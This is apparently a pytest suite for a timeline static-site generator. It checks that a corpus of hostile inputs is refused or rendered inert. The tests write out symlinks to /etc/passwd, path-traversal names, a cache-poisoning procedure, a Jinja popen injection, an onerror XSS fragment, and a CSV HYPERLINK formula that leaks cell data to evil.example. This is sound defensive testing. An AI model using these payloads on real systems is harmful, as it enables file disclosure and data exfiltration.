"""Every case of the hostile-input corpus (tests/hostile/cases.yaml) gets the outcome it names.

``refused`` cases are checked the way ``timeline check`` (or, for docs/ and CONTRIBUTING.md,
``timeline build``) sees them; ``inert`` cases are built together into one real site and read
back from it: each payload shows as text on its page and nowhere as markup, in the pages, the
feeds, the data downloads and the JSON-LD.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import shutil
import signal
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
import yaml

from generator import pipeline
from generator.problems import Problem, Severity
from generator.project import Project
from generator.renderer import urls
from generator.renderer.regionmap import outline_data
from generator.writer import UnsafePath, write_tree
from tests.hostile._support import (
    CORPUS,
    MARKUP,
    VALID_EVENT,
    build,
    built_once,
    elements,
    inert_site,
    install,
    load_cases,
    new_project,
    scan_site,
    squash,
    visible_text,
)

CASES = load_cases()
REFUSED_FILES = [c for c in CASES if c["outcome"] == "refused" and "setup" not in c]
INERT = [c for c in CASES if c["outcome"] == "inert"]
SETUP = [c for c in CASES if "setup" in c]
VALID = VALID_EVENT.read_bytes()
PASSWD = Path("/etc/passwd")


def _ids(cases: list[dict[str, Any]]) -> list[str]:
    return [c["id"] for c in cases]


def test_the_manifest_lists_every_file_once_with_a_known_outcome() -> None:
    ids = [c["id"] for c in CASES]
    assert len(ids) == len(set(ids))
    files = sorted(c.get("file") or c.get("tags_file") for c in CASES if "setup" not in c)
    on_disk = sorted(p.relative_to(CORPUS).as_posix() for p in CORPUS.glob("*/*.yaml") if p.name != "inert-site.yaml")
    assert files == on_disk
    for case in CASES:
        assert case["outcome"] in ("refused", "inert"), case
        assert case.get("attack"), case
        if case["outcome"] == "refused":
            assert case.get("problem"), case
        else:
            assert "shows" in case, case
    assert sorted(c["setup"] for c in SETUP) == sorted(SETUPS)


def _assert_refused(problems: list[Problem], case: dict[str, Any], path_end: str) -> None:
    """An error for the file ending in ``path_end`` whose message names the case's problem."""
    found = [
        p
        for p in problems
        if p.severity is Severity.ERROR
        and case["problem"] in p.message
        and p.path.replace(os.sep, "/").endswith(path_end)
    ]
    if "field" in case:
        found = [p for p in found if p.field == case["field"]]
    shown = "\n".join(p.format() for p in problems)
    assert found, f"{case['id']}: expected an error containing {case['problem']!r} for {path_end}, got:\n{shown}"


def _with_alarm(seconds: int, action: Callable[[], Any]) -> Any:
    """Run ``action``; fail (instead of hanging the suite) if it blocks, as reading a FIFO would."""

    def timeout(signum: int, frame: object) -> None:
        raise AssertionError(f"blocked for more than {seconds} s")

    previous = signal.signal(signal.SIGALRM, timeout)
    signal.alarm(seconds)
    try:
        return action()
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


# ------------------------------------------------------------------ refused event and tag files


@pytest.mark.parametrize("case", REFUSED_FILES, ids=_ids(REFUSED_FILES))
def test_refused_file(case: dict[str, Any], tmp_path: Path) -> None:
    timeline = tmp_path / "timeline"
    timeline.mkdir()
    if "tags_file" in case:
        shutil.copy(CORPUS / case["tags_file"], timeline / "tags.yaml")
        install(timeline, "2024/2024-01-15-valid.yaml", VALID)
        where = "timeline/tags.yaml"
    else:
        shutil.copy(CORPUS.parent.parent / "timeline" / "tags.yaml", timeline / "tags.yaml")
        name = Path(case["file"]).name
        install(timeline, f"2024/{name}", (CORPUS / case["file"]).read_bytes())
        where = f"timeline/2024/{name}"
    result = _with_alarm(60, lambda: pipeline.check(timeline, use_cache=False))
    _assert_refused(result.problems, case, where)
    assert not result.ok
    if "file" in case:
        assert not any(e.path.endswith(Path(case["file"]).name) for e in result.events)


# ------------------------------------------------------------------ cases that need the file system


def _timeline(tmp_path: Path) -> Path:
    timeline = tmp_path / "timeline"
    timeline.mkdir(parents=True)
    shutil.copy(CORPUS.parent.parent / "timeline" / "tags.yaml", timeline / "tags.yaml")
    return timeline


def _check_refuses(tmp_path: Path, case: dict[str, Any], files: dict[str, bytes], where: str) -> None:
    timeline = _timeline(tmp_path)
    for relative, data in files.items():
        install(timeline, relative, data)
    result = pipeline.check(timeline, use_cache=False)
    _assert_refused(result.problems, case, where)
    assert not result.ok


def _named(name: str) -> Callable[[dict[str, Any], Path], None]:
    def setup(case: dict[str, Any], tmp_path: Path) -> None:
        _check_refuses(tmp_path, case, {f"2024/{name}": VALID}, f"2024/{name}")

    return setup


def _huge_file(case: dict[str, Any], tmp_path: Path) -> None:
    _check_refuses(
        tmp_path,
        case,
        {"2024/2024-01-15-huge.yaml": VALID + b"# " + b"x" * 70_000 + b"\n"},
        "2024/2024-01-15-huge.yaml",
    )


def _deep_nesting_max(case: dict[str, Any], tmp_path: Path) -> None:
    data = b"title: " + b"[" * 30_000 + b"]" * 30_000 + b"\n"
    _check_refuses(tmp_path, case, {"2024/2024-01-15-deep.yaml": data}, "2024/2024-01-15-deep.yaml")


def _too_many_values(case: dict[str, Any], tmp_path: Path) -> None:
    data = b"title: [" + b",".join([b"1"] * 25_000) + b"]\n"
    _check_refuses(tmp_path, case, {"2024/2024-01-15-many.yaml": data}, "2024/2024-01-15-many.yaml")


def _case_clash(case: dict[str, Any], tmp_path: Path) -> None:
    timeline = _timeline(tmp_path)
    install(timeline, "2024/2024-01-a.yaml", VALID)
    install(timeline, "2024/2024-01-A.yaml", VALID.replace(b"Soldiers reportedly", b"Other soldiers reportedly"))
    result = pipeline.check(timeline, use_cache=False)
    _assert_refused(result.problems, case, "2024/2024-01-a.yaml")
    _assert_refused(result.problems, case, "2024/2024-01-A.yaml")
    assert result.events == []


def _symlink_event(case: dict[str, Any], tmp_path: Path) -> None:
    timeline = _timeline(tmp_path)
    install(timeline, "2024/2024-01-15-valid.yaml", VALID)
    (timeline / "2024" / "2024-01-15-passwd.yaml").symlink_to(PASSWD)
    result = pipeline.check(timeline, use_cache=False)
    _assert_refused(result.problems, case, "2024/2024-01-15-passwd.yaml")


def _symlink_year(case: dict[str, Any], tmp_path: Path) -> None:
    timeline = _timeline(tmp_path)
    (timeline / "2024").symlink_to(Path("/etc"), target_is_directory=True)
    result = pipeline.check(timeline, use_cache=False)
    _assert_refused(result.problems, case, "timeline/2024")


def _symlink_tags(case: dict[str, Any], tmp_path: Path) -> None:
    timeline = _timeline(tmp_path)
    (timeline / "tags.yaml").unlink()
    (timeline / "tags.yaml").symlink_to(PASSWD)
    install(timeline, "2024/2024-01-15-valid.yaml", VALID)
    result = pipeline.check(timeline, use_cache=False)
    _assert_refused(result.problems, case, "timeline/tags.yaml")


def _symlink_timeline_folder(case: dict[str, Any], tmp_path: Path) -> None:
    elsewhere = _timeline(tmp_path / "elsewhere")
    install(elsewhere, "2024/2024-01-15-valid.yaml", VALID)
    project = new_project(tmp_path / "project")
    shutil.rmtree(project.timeline)
    project.timeline.symlink_to(elsewhere, target_is_directory=True)
    result = pipeline.check(project.timeline, use_cache=False)
    _assert_refused(result.problems, case, "project/timeline")
    assert not result.ok


def _fifo_event(case: dict[str, Any], tmp_path: Path) -> None:
    timeline = _timeline(tmp_path)
    install(timeline, "2024/2024-01-15-valid.yaml", VALID)
    os.mkfifo(timeline / "2024" / "2024-01-15-fifo.yaml")
    result = _with_alarm(20, lambda: pipeline.check(timeline, use_cache=False))
    _assert_refused(result.problems, case, "2024/2024-01-15-fifo.yaml")


def _refused_build(case: dict[str, Any], tmp_path: Path, change: Callable[[Project], str]) -> None:
    """A valid timeline with a hostile change to docs/ or CONTRIBUTING.md: nothing is built or published."""
    project = new_project(tmp_path / "project")
    install(project.timeline, "2024/2024-01-15-valid.yaml", VALID)
    where = change(project)
    outcome = _with_alarm(60, lambda: build(project, tmp_path / "cache"))
    _assert_refused(outcome.problems, case, where)
    assert not outcome.ok
    assert not project.site.exists()
    for folder in (project.docs / "generated", project.site):
        for path in folder.rglob("*") if folder.exists() else []:
            if path.is_file() and not path.is_symlink():
                assert b"root:x:0:0:" not in path.read_bytes(), path


def _docs_page(project: Project) -> str:
    (project.docs / "leak.md").symlink_to(PASSWD)
    return "docs/leak.md"


def _docs_folder(project: Project) -> str:
    (project.docs / "assets" / "etc").symlink_to(Path("/etc"), target_is_directory=True)
    return "docs/assets/etc"


def _docs_root(project: Project) -> str:
    elsewhere = project.root.parent / "elsewhere-docs"
    shutil.move(project.docs, elsewhere)
    (elsewhere / "private.txt").write_text("root:x:0:0: a file that was never meant for the site\n")
    project.docs.symlink_to(elsewhere, target_is_directory=True)
    return "project/docs"


def _docs_fifo(project: Project) -> str:
    os.mkfifo(project.docs / "pipe.md")
    return "docs/pipe.md"


def _contributing(project: Project) -> str:
    (project.root / "CONTRIBUTING.md").unlink()
    (project.root / "CONTRIBUTING.md").symlink_to(PASSWD)
    return "CONTRIBUTING.md"


def _planted_cache(case: dict[str, Any], tmp_path: Path) -> None:
    """A cache committed in the repository's .cache/ that marks a hostile file as clean is never read.

    The poison is made the way an attacker would, in the project's own cache folder: check a
    harmless file, then the hostile one under the same name, and give the hostile file's entry
    the harmless file's result. In place, the poison works (else the test would prove nothing).
    Committed and checked out (a copy: the same bytes and paths, new inodes and change times),
    its entries are never found, the check refuses the file, and the planted file is pruned.
    """
    project = new_project(tmp_path / "project")
    cache = project.root / ".cache" / "timeline-check"
    hostile = (CORPUS / "events" / "2024-01-15-summary-script.yaml").read_bytes()
    target = project.timeline / "2024" / "2024-01-15-summary-script.yaml"
    with contextlib.chdir(project.root):  # paths as shown are part of each key: keep them equal
        install(project.timeline, "2024/2024-01-15-summary-script.yaml", VALID)
        assert pipeline.check(project.timeline).ok
        [stored] = cache.glob("checked-*.json")
        harmless = list(json.loads(stored.read_text(encoding="utf-8")).values())
        target.write_bytes(hostile)
        assert not pipeline.check(project.timeline).ok
        entries = json.loads(stored.read_text(encoding="utf-8"))
        stored.write_text(json.dumps(dict.fromkeys(entries, harmless[0])), encoding="utf-8")
        poison_works = pipeline.check(project.timeline).ok
    assert poison_works, "the poisoned cache did not pass the file even when read: the test proves nothing"
    checkout = tmp_path / "checkout"
    shutil.copytree(project.root, checkout, symlinks=True)
    with contextlib.chdir(checkout):
        _assert_refused(pipeline.check(Path("timeline")).problems, case, "2024/2024-01-15-summary-script.yaml")
        assert not (checkout / ".cache" / "timeline-check" / stored.name).exists()
    outcome = pipeline.build(Project(checkout), checkout / "timeline", checkout / "site")
    assert not outcome.ok


def _place_takeover(case: dict[str, Any], tmp_path: Path) -> None:
    """A newcomer whose place name differs from an existing place's but has its address."""
    newcomer = VALID.replace(b"name: Kupiansk sector", b"name: KUPIANSK-sector!").replace(b"2024-01-15", b"2024-01-14")
    _check_refuses(
        tmp_path,
        case,
        {
            "2024/2024-01-15-valid.yaml": VALID,
            "2024/2024-01-14-newcomer.yaml": newcomer.replace(b"2024-02-01", b"2024-03-01"),
        },
        "2024/2024-01-14-newcomer.yaml",
    )


SETUPS: dict[str, Callable[[dict[str, Any], Path], None]] = {
    "yaml-huge-file": _huge_file,
    "yaml-deep-nesting-max": _deep_nesting_max,
    "yaml-too-many-values": _too_many_values,
    "id-dot-dot": _named("2024-01-15-a..b.yaml"),
    "id-uppercase": _named("2024-01-15-Upper-Case.yaml"),
    "id-non-ascii": _named("2024-01-15-пример.yaml"),
    "id-reserved-index": _named("index.yaml"),
    "id-reserved-con": _named("con.yaml"),
    "id-reserved-aux": _named("aux.yaml"),
    "id-reserved-nul": _named("nul.yaml"),
    "id-case-clash": _case_clash,
    "id-hidden": _named(".2024-01-15-hidden.yaml"),
    "id-wrong-extension": _named("2024-01-15-valid.yml"),
    "symlink-event": _symlink_event,
    "symlink-year-folder": _symlink_year,
    "symlink-tags": _symlink_tags,
    "symlink-timeline-folder": _symlink_timeline_folder,
    "fifo-event": _fifo_event,
    "symlink-docs-page": lambda case, tmp: _refused_build(case, tmp, _docs_page),
    "symlink-docs-folder": lambda case, tmp: _refused_build(case, tmp, _docs_folder),
    "symlink-docs-root": lambda case, tmp: _refused_build(case, tmp, _docs_root),
    "fifo-docs": lambda case, tmp: _refused_build(case, tmp, _docs_fifo),
    "symlink-contributing": lambda case, tmp: _refused_build(case, tmp, _contributing),
    "planted-repo-cache": _planted_cache,
    "place-address-takeover": _place_takeover,
}


@pytest.mark.parametrize("case", SETUP, ids=_ids(SETUP))
def test_refused_setup(case: dict[str, Any], tmp_path: Path) -> None:
    SETUPS[case["setup"]](case, tmp_path)


def test_generated_paths_cannot_leave_the_output_folder(tmp_path: Path) -> None:
    out = tmp_path / "out" / "generated"
    for hostile in ("../escape.md", str(tmp_path / "absolute.md"), "a/../../b.md", "a\\..\\b.md", ""):
        with pytest.raises(UnsafePath):
            write_tree(out, {hostile: b"x"})
    assert [p for p in tmp_path.rglob("*") if p.is_file()] == []


# ------------------------------------------------------------------ inert cases, built into one site


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Project, pipeline.Run]]:
    yield built_once("inert", lambda: inert_site(tmp_path_factory.mktemp("inert")))


def test_every_inert_case_passes_the_check_and_builds(site: tuple[Project, pipeline.Run]) -> None:
    project, outcome = site
    errors = [p.format() for p in outcome.problems if p.severity is Severity.ERROR]
    assert errors == [] and outcome.ok, errors + outcome.messages
    assert outcome.check.events == len(INERT)
    built = {e.id for e in pipeline.check(project.timeline).events}
    assert built == {Path(c["file"]).stem for c in INERT}


def test_content_ids_stay_out_of_the_site_ids(site: tuple[Project, pipeline.Run]) -> None:
    """A title's heading id never takes an id the scripts or the theme look up (tests/hostile/test_ids.py)."""
    project, _ = site
    for case, taken in (("title-script-id", "tl-filters"), ("title-source-anchor", "source-1")):
        page = _page(project, next(c for c in INERT if c["id"] == case))
        # the title is the page's <h1>, which takes no id from its text (headings inside a summary
        # get theirs through generator/site/slugs.py, which tests/hostile/test_ids.py covers)
        assert re.search(r"<h1[^>]*>", page) and "id=" not in re.search(r"<h1[^>]*>", page).group(0)
        assert page.count(f'id="{taken}"') == (1 if taken == "source-1" else 0)  # the source's own anchor


def _page(project: Project, case: dict[str, Any]) -> str:
    return (project.site / "events" / Path(case["file"]).stem / "index.html").read_text(encoding="utf-8")


@pytest.mark.parametrize("case", INERT, ids=_ids(INERT))
def test_inert_case_shows_its_text_and_adds_no_markup(case: dict[str, Any], site: tuple[Project, pipeline.Run]) -> None:
    project, _ = site
    html = _page(project, case)
    text = visible_text(html)
    for expected in case["shows"]:
        assert squash(expected) in text, f"{case['id']}: {expected!r} is not shown as text"
        if "<" in expected:
            assert expected not in html, f"{case['id']}: {expected!r} is in the page unescaped"
    assert "<img src=x onerror" not in html
    parsed, _ = elements(html)
    assert not [e for e in parsed if e.tag in ("img", "iframe")]
    assert not [(e.tag, k) for e in parsed for k, _ in e.attrs if k.startswith("on")]
    for script in (e for e in parsed if e.get("type") == "application/ld+json"):
        data = json.loads(script.text)  # whole: no field ended the script early
        assert data["headline"] == _event(project, case)["title"]


def _event(project: Project, case: dict[str, Any]) -> dict[str, Any]:
    data = json.loads((project.site / "data" / "events.json").read_text(encoding="utf-8"))
    return next(e for e in data["events"] if e["id"] == Path(case["file"]).stem)


def test_jinja_is_never_evaluated(site: tuple[Project, pipeline.Run]) -> None:
    project, _ = site
    for path in project.site.rglob("*.html"):
        assert "evaluated" not in visible_text(path.read_text(encoding="utf-8")).replace(
            "{% if true %}evaluated{% endif %}", ""
        ), path
    html = (project.site / "events" / "2024-01-15-jinja-everywhere" / "index.html").read_text(encoding="utf-8")
    assert "uid=" not in html  # {{ lipsum...popen('id') }} never ran


def test_data_downloads_carry_the_text_exactly(site: tuple[Project, pipeline.Run]) -> None:
    """events.json and the feeds are data: every payload arrives as written, neither escaped nor run."""
    project, _ = site
    feed = {item["title"] for item in json.loads((project.site / "feed.json").read_text(encoding="utf-8"))["items"]}
    atom = ElementTree.fromstring((project.site / "feed.xml").read_bytes())
    atom_titles = {e.text for e in atom.iter("{http://www.w3.org/2005/Atom}title")}
    for case in INERT:
        written = yaml.safe_load((CORPUS / case["file"]).read_text(encoding="utf-8-sig"))
        record = _event(project, case)
        assert record["title"] == written["title"]
        assert record["summary"] == written["summary"].strip()
        assert record["location"]["name"] == written["location"]["name"]
        assert [(c["by"], c["says"]) for c in record["claims"]] == [(c["by"], c["says"]) for c in written["claims"]]
        assert [(s["publisher"], s["title"]) for s in record["sources"]] == [
            (s["publisher"], s["title"]) for s in written["sources"]
        ]
        assert written["title"] in feed and written["title"] in atom_titles
    assert any(MARKUP in c["shows"][0] for c in INERT if c["shows"])


def test_csv_formulas_are_neutralised(site: tuple[Project, pipeline.Run]) -> None:
    project, _ = site
    rows = list(csv.DictReader(io.StringIO((project.site / "data" / "events.csv").read_text(encoding="utf-8-sig"))))
    row = next(r for r in rows if r["id"] == "2024-01-15-csv-formula")
    assert row["title"] == "'" + '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
    assert row["location"].startswith("'+")
    assert row["claimants"].startswith("'@")
    assert row["sources"].startswith("'-")
    assert "; '=1+1" in row["claimants"]  # a list item a spreadsheet could split into its own cell


def test_the_inert_site_scans_clean(site: tuple[Project, pipeline.Run]) -> None:
    project, _ = site
    scan = scan_site(project.site)
    assert scan.findings == []
    assert scan.counts.get(".html", 0) > len(INERT)


def test_fenced_image_is_not_a_tracking_pixel_in_the_feeds(site: tuple[Project, pipeline.Run]) -> None:
    """The feeds render summaries as the site does: inside a code fence, image syntax is code."""
    project, _ = site
    feed = json.loads((project.site / "feed.json").read_text(encoding="utf-8"))
    [item] = [i for i in feed["items"] if i["id"].endswith("2024-01-15-summary-fence-image")]
    html = item["content_html"]
    assert "<code>![x](https://evil.example/pixel.png)" in html.replace("\n", "")
    assert [e.tag for e in elements(html)[0] if e.tag in ("img", "image")] == []
    atom = ElementTree.fromstring((project.site / "feed.xml").read_bytes())
    contents = [c.text or "" for c in atom.iter("{http://www.w3.org/2005/Atom}content")]
    assert any("pixel.png" in c for c in contents)
    assert not [e for c in contents for e in elements(c)[0] if e.tag == "img"]


# ------------------------------------------------------------------ the build's own dependencies


def test_dependencies_install_only_from_the_hashed_lock_file() -> None:
    """A pull request cannot swap a dependency: every install pins versions and checks hashes."""
    repo = CORPUS.parent.parent
    lock = (repo / "requirements.lock").read_text(encoding="utf-8")
    blocks = [b for b in lock.replace("\\\n", " ").splitlines() if b and not b.startswith((" ", "#"))]
    assert len(blocks) > 20
    for block in blocks:
        assert "==" in block.split()[0] and "--hash=sha256:" in block, block
    installs = [
        line.strip()
        for path in [repo / "Makefile", *sorted((repo / ".github" / "workflows").glob("*.yml"))]
        if path.is_file()
        for line in path.read_text(encoding="utf-8").splitlines()
        if "pip install" in line
    ]
    assert installs
    for line in installs:
        assert (
            "--require-hashes -r requirements.lock" in line
            or "--require-hashes -r requirements-site.lock" in line
            or "--no-deps --no-build-isolation -e ." in line
        ), line
    site = (repo / "requirements-site.lock").read_text(encoding="utf-8")
    for block in [b for b in site.replace("\\\n", " ").splitlines() if b and not b.startswith((" ", "#"))]:
        assert "==" in block.split()[0] and "--hash=sha256:" in block, block


def test_the_inert_site_vocabulary_is_the_real_one_plus_the_hostile_tag() -> None:
    """The bundled events are built with the inert cases (test_determinism): every real tag must be there."""
    real = yaml.safe_load((CORPUS.parent.parent / "timeline" / "tags.yaml").read_text(encoding="utf-8"))
    inert = yaml.safe_load((CORPUS / "tags" / "inert-site.yaml").read_text(encoding="utf-8"))
    assert {key: inert[key] for key in real} == real
    assert set(inert) - set(real) == {"hostile-markup"}


def test_no_page_draws_a_path_but_the_map_outlines(site: tuple[Project, pipeline.Run]) -> None:
    """The map, the time axis and the region page of an event titled with an svg path draw only the map's outlines."""
    project, _ = site
    outlines = outline_data()
    pages = [
        project.site / urls.address(urls.regions()) / "index.html",
        project.site / urls.address(urls.region("UA-63")) / "index.html",
        project.site / urls.address(urls.timeline()) / "index.html",
        project.site / "index.html",
    ]
    for page in pages:
        article = page.read_text(encoding="utf-8").split("<article", 1)[1].split("</article>", 1)[0]
        drawn = re.findall(r'<path [^>]*\bd="([^"]*)"', article)
        assert all(d in outlines for d in drawn), page
    region_page = pages[1].read_text(encoding="utf-8")
    assert 'Title &lt;svg&gt;&lt;path d="M0 0h9999v9999h-9999Z"&gt;' in region_page.replace("&quot;", '"')
